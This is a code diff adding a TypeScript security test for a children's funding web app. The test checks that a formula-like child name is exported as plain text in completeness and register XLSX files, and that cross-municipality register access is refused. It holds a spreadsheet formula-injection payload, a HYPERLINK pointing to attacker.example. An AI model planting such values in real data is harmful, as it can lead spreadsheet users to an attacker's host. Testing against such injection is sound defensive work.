@@ -1,4 +1,5 @@
 import { sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createMailingTestApp } from '../../../tests/support/app.js';
 import { TestClient, csrfTokenOf, textOf } from '../../../tests/support/client.js';
@@ -37,9 +38,13 @@ async function signedIn(email: string): Promise<TestClient> {
 }
 
 /** A parent, signed in, whose funded child has a contract confirmed by the organization (an offer). */
-async function offer() {
+async function offer(childLastName?: string) {
   const email = `attack-parent${++people}@example.ru`;
-  const family = await createFamily(database.db, { email, passwordHash });
+  const family = await createFamily(database.db, {
+    email,
+    passwordHash,
+    ...(childLastName ? { childLastName } : {}),
+  });
   const parent: Actor = { id: family.userId, emailVerified: true, staff: null };
   expect((await app.services.funding.request(parent, family.childId)).status).toBe('funded');
   const { groupId } = await createOpenGroup(database.db, {
@@ -330,5 +335,78 @@ describe('the contract offer', () => {
     expect(textOf(late.body)).toContain('Срок акцепта оферты истёк');
     expect(await statusOf(stranger.id)).toBe('confirmed');
     expect(await acceptedEvents(stranger.id)).toBe(0);
+  });
+});
+
+describe('the XLSX of completeness and of a register', () => {
+  it('holds: a child’s name that looks like a formula is text in both; the register’s download is audited as one (finding)', async () => {
+    // A parent names the child «=HYPERLINK(…)»: a spreadsheet must show it, never evaluate it.
+    const formula = '=HYPERLINK("http://attacker.example/?x=1","Открыть")';
+    const contract = await offer(formula);
+    expect(
+      (
+        await contract.client.submit(
+          `/cabinet/contracts/${contract.id}`,
+          { agree: 'yes' },
+          `/cabinet/contracts/${contract.id}/accept`,
+        )
+      ).status,
+    ).toBe(303);
+    const [row] = await queryRows(
+      database.db,
+      sql`select months from funding_contracts where id = ${contract.id}`,
+    );
+    const month = (row!.months as { month: string }[])[0]!.month;
+    const cellsOf = async (raw: Buffer) => {
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(raw as unknown as ArrayBuffer);
+      const cells: ExcelJS.Cell[] = [];
+      workbook.worksheets[0]!.eachRow((r) => r.eachCell((cell) => cells.push(cell)));
+      return cells;
+    };
+    const completeness = await clients.orgA.get(`/staff/org/completeness.xlsx?month=${month.slice(0, 7)}`);
+    expect(completeness.status).toBe(200);
+    const named = (await cellsOf(completeness.raw)).filter((cell) => cell.text.includes('HYPERLINK'));
+    expect(named.length).toBe(1);
+    expect(named[0]!.type).toBe(ExcelJS.ValueType.String);
+    expect(named.some((cell) => cell.formula)).toBe(false);
+
+    await app.services.accounting.closeMonth(month);
+    const register = new URLSearchParams({
+      month: month.slice(0, 7),
+      organization: organizationA,
+      municipality: '1',
+      kind: 'advance',
+    }).toString();
+    const downloads = async () =>
+      queryRows(
+        database.db,
+        sql`select actor_user_id, details from audit_events where action = 'staff.register_downloaded'`,
+      );
+    // Another municipality's administrator, the same register's address: as if it did not exist, and not audited.
+    expect((await clients.adminD.get(`/staff/funding/registers/export.xlsx?${register}`)).status).toBe(404);
+    expect(await downloads()).toEqual([]);
+    const exported = await clients.adminS.get(`/staff/funding/registers/export.xlsx?${register}`);
+    expect(exported.status).toBe(200);
+    const cells = (await cellsOf(exported.raw)).filter((cell) => cell.text.includes('HYPERLINK'));
+    expect(cells.length).toBe(1);
+    expect(cells[0]!.type).toBe(ExcelJS.ValueType.String);
+    // The download was written to the audit as a download (it read «registers viewed», as the page does).
+    const audited = await downloads();
+    expect(audited.length).toBe(1);
+    expect((audited[0]!.details as { contractIds: string[] }).contractIds).toContain(contract.id);
+    // A status for a register that is not there (another payer in the address): 404, nothing changes.
+    const elsewhere = register.replace('municipality=1', 'municipality=2');
+    expect(
+      (
+        await clients.adminS.submit(
+          `/staff/funding/registers?month=${month.slice(0, 7)}`,
+          { status: 'paid' },
+          `/staff/funding/registers/status?${elsewhere}`,
+        )
+      ).status,
+    ).toBe(404);
+    const statuses = await queryRows(database.db, sql`select status::text from funding_registers`);
+    expect(statuses.every((r) => r.status === 'unviewed')).toBe(true);
   });
 });
